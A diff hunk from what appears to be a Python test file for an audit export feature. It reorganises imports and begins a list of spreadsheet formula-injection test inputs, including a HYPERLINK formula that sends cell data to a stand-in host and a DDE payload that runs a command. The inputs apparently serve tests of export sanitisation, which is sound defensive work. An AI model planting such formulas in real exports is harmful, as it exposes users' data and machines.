@@ -10,7 +10,8 @@ from appliance import audit
 from appliance.audit import searching
 from appliance.audit.exporting import export
 from appliance.database import Database
-from appliance.records import Caller, Reach
+from appliance.reach import Reach
+from appliance.records import Caller
 from tests.audit.writing import ANA, written
 
 FORMULAS = ['=HYPERLINK("http://canary.test/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
